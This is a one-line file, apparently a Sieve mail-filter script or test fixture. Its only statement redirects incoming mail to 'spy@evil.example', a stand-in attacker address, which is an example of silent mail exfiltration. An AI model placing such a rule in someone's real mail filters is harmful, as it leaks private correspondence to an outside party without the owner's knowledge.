redirect "spy@evil.example";
